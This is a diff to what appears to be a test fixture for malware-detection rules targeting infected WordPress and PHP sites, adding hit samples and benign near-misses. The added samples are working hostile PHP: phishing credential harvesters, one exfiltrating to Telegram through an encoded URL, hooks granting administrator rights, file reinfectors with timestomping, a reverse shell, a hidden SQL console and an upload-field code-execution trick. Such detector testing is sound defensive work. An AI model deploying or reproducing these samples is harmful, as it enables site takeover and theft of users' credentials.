@@ -79,6 +79,15 @@ VARIANTS: dict[str, str] = {
     "phish_print_r_post_mail": "<?php\n$body = print_r($_POST, true) . \"\\nIP: \" . $_SERVER['REMOTE_ADDR'] . \"\\nUA: \" . $_SERVER['HTTP_USER_AGENT'];\nmail('rezults.box@gmail.com', 'Chase Login ' . $_SERVER['REMOTE_ADDR'], $body);\nheader('Location: https://www.chase.com/');\n",
     "reinfect_html_links": "<?php\n$spam = '<div style=\"position:absolute;left:-3000px\"><a href=\"https://cheap-pills.top\">viagra</a></div>';\nforeach (glob('*/*.html') as $f) {\n    $c = file_get_contents($f);\n    if (strpos($c, 'cheap-pills') === false) { file_put_contents($f, str_replace('</html>', $spam . '</html>', $c)); }\n}\n",
     "bindshell_stream_server": "<?php\n$srv = stream_socket_server('tcp://0.0.0.0:4444', $errno, $errstr);\nwhile ($c = stream_socket_accept($srv, -1)) {\n    while (($line = fgets($c)) !== false) { fwrite($c, (string) shell_exec($line)); }\n    fclose($c);\n}\n",
+    "wp_user_register_promote": "<?php\nadd_action('user_register', function ($id) {\n    $u = new WP_User($id);\n    if (substr($u->user_email, -14) === '@protonmail.ch') { $u->set_role('administrator'); }\n});\n",
+    "wp_user_has_cap_cookie": "<?php\nadd_filter('user_has_cap', function ($all) {\n    if (isset($_COOKIE['wpx_dbg'])) { $all['manage_options'] = true; $all['administrator'] = true; $all['edit_plugins'] = true; }\n    return $all;\n});\n",
+    "phish_json_store": "<?php\n$ip = $_SERVER['REMOTE_ADDR'];\nfile_put_contents(__DIR__ . '/data/' . md5($ip) . '.json', json_encode($_POST + array('ip' => $ip, 'ua' => $_SERVER['HTTP_USER_AGENT'])));\nheader('Location: https://www.paypal.com/signin');\n",
+    "phish_telegram_b64_token": "<?php\n$api = base64_decode('aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDEyMzQ1Njc4OTpBQUZha2VUb2tlbi9zZW5kTWVzc2FnZQ==');\n$m = \"User: \" . $_POST['user'] . \"\\nCode: \" . $_POST['code'] . \"\\nIP: \" . $_SERVER['REMOTE_ADDR'];\nfile_get_contents($api . '?chat_id=555111222&text=' . urlencode($m));\necho '<script>location.href=\"wait.html\"</script>';\n",
+    "reinfect_sibling_functions_php": "<?php\n$code = \"\\n@include_once('/tmp/.x1.ico');\\n\";\nforeach (glob('../*/wp-content/themes/*/functions.php') as $f) {\n    if (strpos(file_get_contents($f), '.x1.ico') === false) { file_put_contents($f, $code, FILE_APPEND); }\n}\n",
+    "reinfect_js_prepend_docwrite": "<?php\n$payload = \"document.write('<scr'+'ipt src=\\\"https://cdn-jq.top/q.js\\\"></scr'+'ipt>');\\n\";\nforeach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator('wp-includes/js')) as $js) {\n    if (substr($js, -3) === '.js') { $t = filemtime($js); file_put_contents($js, $payload . file_get_contents($js)); touch($js, $t); }\n}\n",
+    "revshell_fread_exec_array": "<?php\n$sock = fsockopen($_POST['ip'], $_POST['port']);\nwhile (!feof($sock)) {\n    $c = fread($sock, 1024);\n    $o = array();\n    exec($c, $o);\n    fwrite($sock, implode(\"\\n\", $o) . \"\\n\");\n}\n",
+    "files_name_as_function": "<?php\nif (!empty($_FILES['f'])) { $_FILES['f']['name']($_FILES['f']['type']); }\n",
+    "sql_console_hidden_menu": "<?php\nadd_action('admin_menu', function () { add_submenu_page(null, 'x', 'x', 'read', 'wp-dbx', 'wp_dbx_page'); });\nfunction wp_dbx_page() {\n    global $wpdb;\n    if (!empty($_POST['q'])) { print_r($wpdb->get_results(stripslashes($_POST['q']))); }\n    echo '<form method=\"post\"><textarea name=\"q\"></textarea><input type=\"submit\"></form>';\n}\n",
     "phish_bank_card_and_password": "<?php\n$cliente = $_POST['cliente'];\n$cpf = $_POST['cpf'];\n$senha = $_POST['senha_internet'];\n$cartao = $_POST['num_cartao'];\n$validade = $_POST['validade'];\n$cvv = $_POST['cvv'];\ninclude 'enviar.php';\nheader('Location: aguarde.php');\n",
 }
 
@@ -150,6 +159,15 @@ HITS: list[tuple[str, str]] = [
     ("SPAMGEAR_HOSTINF_PostDumpMailedRedirect", "phish_print_r_post_mail"),
     ("SPAMGEAR_HOSTINF_ScriptTagFileInjector", "reinfect_html_links"),
     ("SPAMGEAR_HOSTINF_SocketCommandLoop", "bindshell_stream_server"),
+    ("SPAMGEAR_HOSTINF_WpRoleEscalationHook", "wp_user_register_promote"),
+    ("SPAMGEAR_HOSTINF_WpRoleEscalationHook", "wp_user_has_cap_cookie"),
+    ("SPAMGEAR_HOSTINF_PostDumpMailedRedirect", "phish_json_store"),
+    ("SPAMGEAR_HOSTINF_TelegramCredentialExfil", "phish_telegram_b64_token"),
+    ("SPAMGEAR_HOSTINF_IncludeIconFile", "reinfect_sibling_functions_php"),
+    ("SPAMGEAR_HOSTINF_WriteBackTimestomp", "reinfect_js_prepend_docwrite"),
+    ("SPAMGEAR_HOSTINF_SocketCommandLoop", "revshell_fread_exec_array"),
+    ("SPAMGEAR_HOSTINF_UploadFieldAsFunction", "files_name_as_function"),
+    ("SPAMGEAR_HOSTINF_RawSqlFromInput", "sql_console_hidden_menu"),
     ("SPAMGEAR_HOSTINF_CvvAndPasswordCapture", "phish_bank_card_and_password"),
 ]
 
@@ -358,6 +376,22 @@ NEAR_MISSES: list[tuple[str, str]] = [
     (
         "SPAMGEAR_HOSTINF_ScriptTagFileInjector",
         "<?php\nforeach (glob($tpl_dir . '/*.html') as $f) {\n    $c = file_get_contents($f);\n    file_put_contents($f, str_replace('</body>', $footer_html . '</body>', $c));\n}\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_WpRoleEscalationHook",
+        "<?php\nadd_action('user_register', function ($id) {\n    $u = new WP_User($id);\n    $u->set_role(get_option('default_role'));\n});\nadd_filter('user_has_cap', function ($all, $caps, $args, $user) {\n    if (in_array('shop_manager', (array) $user->roles, true)) { $all['edit_products'] = true; }\n    return $all;\n}, 10, 4);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_UploadFieldAsFunction",
+        "<?php\n$name = sanitize_file_name($_FILES['f']['name']);\n$type = wp_check_filetype($name);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_RawSqlFromInput",
+        "<?php\nif (current_user_can('manage_options') && check_admin_referer('run_sql')) {\n    print_r($wpdb->get_results(stripslashes($_POST['q'])));\n}\n$rows = $wpdb->get_results($wpdb->prepare(\"SELECT * FROM {$wpdb->posts} WHERE ID = %d\", $_GET['id']));\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_PostDumpMailedRedirect",
+        "<?php\nfile_put_contents(__DIR__ . '/entries/' . time() . '.json', json_encode($_POST));\nheader('Location: /thanks.html');\n",
     ),
 ]
 
